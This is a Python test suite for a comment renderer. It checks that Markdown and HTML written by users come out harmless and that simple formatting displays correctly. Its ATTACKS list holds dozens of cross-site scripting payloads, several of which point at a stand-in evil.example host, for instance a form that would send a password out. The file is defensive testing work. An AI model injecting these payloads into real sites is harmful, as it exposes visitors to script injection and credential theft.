"""What a comment may become on a page, and what it may not."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderation.comments.rendering import TAGS, render

REL = 'rel="nofollow ugc noopener noreferrer"'
_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][^\s/>]*)([^>]*)>")
_HREF = re.compile(r' href="(https?://|mailto:)[^"<>]*"')

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    '[x](https://ok.example/" onmouseover="alert(1))',
    "[x](https://ok.example/ 'onmouseover=alert(1) x=')",
    '[x](https://ok.example "title" onclick=alert(1))',
    "![x](https://tracker.example/pixel.png)",
    "![x](x onerror=alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/'onmouseover='alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<style>@import '//evil.example/x'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<p style='position:fixed;inset:0'>over the page</p>",
    "<p id=form class=admin>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
]


def check_harmless(html: str) -> None:
    """Only the tags that we allow, and no attribute but a link's."""
    for name, attributes in _TAG.findall(html):
        assert name in TAGS, html
        rest = attributes.replace(REL, "").strip(" /")
        if name == "a" and rest:
            rest = _HREF.sub("", " " + rest).strip()
        assert rest == "", html
    # What is left of a less-than sign begins one of those tags.
    assert _TAG.sub("", html).count("<") == 0, html


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_becomes_text(text: str) -> None:
    check_harmless(render(text))


_pieces = st.lists(
    st.sampled_from([*ATTACKS, "<", ">", '"', "'", "`", "[", "](", ")", "\n\n", "\n> "])
    | st.text(max_size=20),
    max_size=6,
).map("".join)


@given(_pieces)
def test_no_mixture_of_markup_gets_through(text: str) -> None:
    check_harmless(render(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        # Prose: paragraphs and lines.
        ("One.\nTwo.\n\nThree.", "<p>One.<br>Two.</p><p>Three.</p>"),
        ("One.\r\n\r\nTwo.\rThree.", "<p>One.</p><p>Two.<br>Three.</p>"),
        # Signs of HTML are signs.
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        # What most visitors know how to write.
        ("*so* **so**", "<p><em>so</em> <strong>so</strong></p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        # A link by itself ends before the full stop.
        (
            "See https://example.org/a.",
            f'<p>See <a href="https://example.org/a" {REL}>https://example.org/a</a>.</p>',
        ),
        # A heading would shout, a rule would divide the page.
        ("# Loud", "<p># Loud</p>"),
        # A definition for links elsewhere would leave nothing to read.
        ("[a]: b", "<p>[a]: b</p>"),
        # Other scripts stay as they are.
        ("Привет 👋🏽 שלום", "<p>Привет 👋🏽 שלום</p>"),
    ],
)
def test_prose_and_simple_markdown_look_as_meant(text: str, html: str) -> None:
    assert render(text) == html


def test_a_quotation_is_a_quotation() -> None:
    html = render("> You said this.\n\nI disagree.")

    assert re.sub(r"\s", "", html) == (
        "<blockquote><p>Yousaidthis.</p></blockquote><p>Idisagree.</p>"
    )


@pytest.mark.parametrize("sign", ["[", "![", "[a](", "*a ", "- a\n", "> ", "`", "<"])
def test_hundreds_of_signs_are_text_and_some_are_markdown(sign: str) -> None:
    many = render("**a** " + sign * 401)
    some = render("**a** b")

    assert "<strong>" not in many
    assert "**a**" in many
    assert some == "<p><strong>a</strong> b</p>"
